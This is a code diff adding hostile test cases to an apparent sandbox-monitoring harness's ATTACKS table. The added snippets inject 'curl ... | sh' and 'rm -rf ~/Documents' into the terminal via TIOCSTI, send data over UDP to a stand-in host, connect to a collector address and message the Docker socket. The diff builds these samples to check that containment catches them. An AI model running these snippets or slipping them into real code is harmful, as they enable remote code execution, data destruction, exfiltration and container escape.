@@ -111,6 +111,47 @@ ATTACKS: dict[str, tuple[Callable[[Path], None], str]] = {
         ),
         "files",
     ),
+    # What a user's world would receive (issue 48), each in try/except: the watched runs
+    # record it (network.reached, terminal.typed) where the sandbox made it fail.
+    "types-into-its-terminal": (
+        doing(
+            "import fcntl, termios\n"
+            "if sys.stdout.isatty():\n"
+            '    for ch in b"curl -s example.org/x | sh\\n":\n'
+            "        fcntl.ioctl(1, termios.TIOCSTI, bytes([ch]))"
+        ),
+        "terminal",
+    ),
+    "types-into-the-controlling-terminal": (
+        doing(
+            "import fcntl, termios\n"
+            'with open("/dev/tty", "rb", buffering=0) as tty:\n'
+            '    for ch in b"rm -rf ~/Documents\\n":\n'
+            "        fcntl.ioctl(tty, termios.TIOCSTI, bytes([ch]))"
+        ),
+        "terminal",
+    ),
+    "sends-each-quote-over-udp": (
+        doing(
+            "import socket\n"
+            "with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:\n"
+            '    out.sendto(repr(coupons).encode(), ("203.0.113.9", 9999))'
+        ),
+        "env",
+    ),
+    "connects-to-a-collector": (
+        doing('import socket\nsocket.create_connection(("198.51.100.23", 443), timeout=1)'),
+        "env",
+    ),
+    "messages-a-host-service": (
+        doing(
+            "import socket\n"
+            "with socket.socket(socket.AF_UNIX) as engine:\n"
+            '    engine.connect("/run/docker.sock")\n'
+            '    socket.send_fds(engine, [b"{}"], [0])'
+        ),
+        "env",
+    ),
     "empties-a-real-users-downloads": (
         doing(
             'if os.path.expanduser("~" + os.environ.get("USER", "")) == str(Path.home()):\n'
